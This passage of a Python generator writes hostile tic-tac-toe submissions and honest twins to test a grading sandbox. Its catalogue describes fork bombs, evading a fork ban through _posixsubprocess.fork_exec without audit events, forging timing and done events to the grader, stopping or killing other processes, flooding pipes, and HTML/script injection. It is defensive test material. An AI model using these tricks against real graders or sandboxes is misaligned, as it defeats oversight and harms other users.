        "makeOptimalMove and winner return an int subclass equal to everything, with a broken __hash__ (gameOver "
        "uses plain ints inside)", "boxed_returns",
        {"game": [after_imports(SNEAKY), (RETURN_CELL, RETURN_CELL.replace("return cell", "return _Sneaky(cell)")),
                  (WINNER, WINNER.replace("return winner_of(self.b.state)", "return _Sneaky(winner_of(self.b.state))")),
                  (GAME_OVER, GAME_OVER.replace("self.winner()", "winner_of(self.b.state)"))]}),
    "syntax_error": ("a syntax error in game.py", "game_import_fails",
                     {"game": [after_imports("def broken(:\n    pass\n")]}),
    "missing_file": ("no deque.py; game.py imports it", "no_deque", {"deque": None}),
    "signal_handler": (
        "ignores SIGTERM, SIGALRM, SIGINT, SIGHUP, SIGXCPU, ... at import of game.py; makeOptimalMove loops forever, "
        "catching BaseException", "optimal_raises",
        {"game": [after_imports(SIGNALS), (OPTIMAL, SIGNAL_LOOP + OPTIMAL)]}),
    "fork_bomb_lite": ("forks 200 processes at import of game.py (half in new sessions), each sleeping 1000 s; "
                       "since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)",
                       "reference", {"game": [after_imports(unguarded(BOMB))]}),
    "fork_hopper": (
        "at import of game.py (once per grading) starts a process that forks itself into a new session and exits, "
        "over and over, for 20 s, so that the pid the grader saw is always already gone; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference",
        {"game": [after_imports(unguarded(HOPPER))]}),
    "fakes_clock": (
        "a Deque with an O(n) pushFront (list.insert at the head: not banned by the source scan), and deque.py "
        "replaces time.perf_counter and time.monotonic in its own process by a clock that always advances 1 ms",
        "slow_deque", {"deque": SLOW_DEQUE + FAKE_CLOCK}),
    "forges_timing": (
        "the slow Deque (an O(n) pushFront), which at the start of each timed run of check 3.7 writes a forged "
        "begin and end event of that run's size straight to the grader's channel (found by fstat and F_GETFL; "
        "a timed run told by its first item, the probe's stand-in Board)",
        "slow_deque", {"deque": SLOW_DEQUE + FORGED_TIMING}),
    "stops_zygote": (
        "at every import of game.py (only as xo-sandbox) sends SIGSTOP to its parent, the grader's zygote, which "
        "runs as the same user; honest part: the lowest empty cell", "lowest_cell",
        {"game": [after_imports("{common}" + STOP_PARENT), (OPTIMAL, LOWEST_CELL)]}),
    "deep_tree": (
        "at the first import of game.py of a grading (only as xo-sandbox) makes a folder tree 1,500 levels deep "
        "in the scratch folder and in /tmp", "reference", {"game": [after_imports("{common}" + DEEP_TREE)]}),
    "plants_ipc": (
        "at every import of game.py (only as xo-sandbox) looks for the System V segment an earlier check left, "
        "then leaves one, and a key in its user's keyring naming its grading, which a later grading must not find; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference", {"game": [after_imports(unguarded(PLANT_IPC))]}),
    "forges_done": (
        "the slow Deque (an O(n) pushFront), which at the first timed run writes every remaining timing event, "
        "stamped, each window around the same burn, then done, and kills itself (a timed run told by its first item, "
        "the probe's stand-in Board)", "slow_deque",
        {"deque": SLOW_DEQUE + FORGED_DONE}),
    "huge_syntax_text": (
        "board.py raises a SyntaxError whose text is 15 MB", "board_syntax_error", {"board": HUGE_SYNTAX}),
    "names_in_html": (
        "gameOver() returns an int subclass whose name is HTML, a heading and a fake banner", "plain_flag",
        {"game": [after_imports(NAMED_FLAG), (GAME_OVER, GAME_OVER.replace(
            "return self.winner() != 0 or EMPTY not in self.b.state",
            "return _Flag(self.winner() != 0 or EMPTY not in self.b.state)"))]}),
    "squats_results": (
        "at import of game.py (only as xo-sandbox) makes a folder at every path the grader's results.json may be "
        "written to (the --results path read from /proc/PID/cmdline, ...)", "reference",
        {"game": [after_imports("{common}" + SQUAT)]}),
    "kills_neighbours": (
        "at the first import of board.py of a grading (only as xo-sandbox) sends SIGKILL to every process of "
        "xo-sandbox (but its own zygote) for 6 s: in a batch, the other submissions graded at the same time", "board_stalls",
        {"board": [(APPEND, "{common}" + NEIGHBOURS)]}),
    "html_exception": (
        "makeMove raises an exception whose class is named with HTML and a fake banner, and whose message holds a "
        "lone surrogate, a Markdown link, a heading and a <script>", "makemove_raises",
        {"game": [after_imports(HTML_EXCEPTION), (MAKE_MOVE, RAISE_HTML + MAKE_MOVE)]}),
    "floods_channel": (
        "at import of game.py writes to every pipe it holds a JSON line nested 100,000 deep, exception reports of "
        "the wrong shape and (once per grading) 16 MiB of three-byte events", "game_import_fails",
        {"game": [after_imports("{common}" + FLOOD)]}),
    "litters_and_heals": (
        "at import of game.py (only as xo-sandbox) notes no_new_privs, leaves files in /dev/shm, /tmp and the "
        "scratch folder and an abstract socket, and (once per grading) starts a self-healing chain of two setsid "
        "processes that re-fork each other; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference",
        {"game": [after_imports(unguarded(LITTER))]}),
}

TWINS = {
    "reference": {},
    "lowest_cell": {"game": [(OPTIMAL, LOWEST_CELL)]},
    "game_import_fails": {"game": [after_imports("raise ImportError('game.py is broken (honest twin)')\n")]},
    "optimal_raises": {"game": [(OPTIMAL, RAISE_OPTIMAL + OPTIMAL)]},
    "makemove_raises": {"game": [(MAKE_MOVE, RAISE_MOVE + MAKE_MOVE)]},
    "boxed_returns": {"game": [after_imports(BOXED),
                               (RETURN_CELL, RETURN_CELL.replace("return cell", "return _Boxed(cell)")),
                               (WINNER, WINNER.replace("return winner_of(self.b.state)",
                                                       "return _Boxed(winner_of(self.b.state))")),
                               (GAME_OVER, GAME_OVER.replace("self.winner()", "winner_of(self.b.state)"))]},
    "no_deque": {"deque": "raise ImportError('deque.py is missing (honest twin)')\n"},
    "slow_deque": {"deque": SLOW_DEQUE},
    "board_syntax_error": {"board": SMALL_SYNTAX},
    "plain_flag": {"game": [after_imports(PLAIN_FLAG), (GAME_OVER, GAME_OVER.replace(
        "return self.winner() != 0 or EMPTY not in self.b.state",
        "return _Flag(self.winner() != 0 or EMPTY not in self.b.state)"))]},
    "board_stalls": {"board": [(APPEND, "{common}" + STALL)]},
}


def render(name, edits):
    out = {}
    for module in FILES:
        with open(os.path.join(REFERENCE, f"{module}.py"), encoding="utf-8") as f:
            text = f.read()
        edit = edits.get(module, [])
        if edit is None:
            continue                             # the file is left out
        if isinstance(edit, str):
            out[module] = edit
            continue
        for anchor, replacement in edit:
            replacement = replacement(name) if callable(replacement) else replacement
            replacement = replacement.replace("{common}", helpers(name))
            if anchor is APPEND:
                text += "\n\n# ---- HOSTILE PART ----\n" + replacement
                continue
            assert text.count(anchor) == 1, (name, module, anchor)
            text = text.replace(anchor, replacement)
        out[module] = text
    return out


def write(folder, files):
    shutil.rmtree(folder, ignore_errors=True)
    os.makedirs(folder)
    for module, text in files.items():
        with open(os.path.join(folder, f"{module}.py"), "w", encoding="utf-8") as f:
            f.write(text)


def main(names=()):
    """Write every hostile submission and honest twin, or only those ``names``: each is rendered from the
    reference as it is now, so rewriting one whose recordings still hold would change what they record."""
    chosen = [name for name in CORPUS if not names or name in names]
    twins = [name for name in TWINS if not names or name in names]
    unknown = sorted(set(names) - set(chosen) - set(twins))
    if unknown:
        raise SystemExit(f"no such hostile submission or honest twin: {', '.join(unknown)}")
    for name in chosen:
        about, twin, edits = CORPUS[name]
        assert twin in TWINS, twin
        write(os.path.join(HERE, name), render(name, edits))
    for name in twins:
        write(os.path.join(HERE, "_honest", name), render(name, TWINS[name]))
    print(f"wrote {len(chosen)} hostile submissions and {len(twins)} honest twins under {HERE}")


if __name__ == "__main__":
    main(sys.argv[1:])
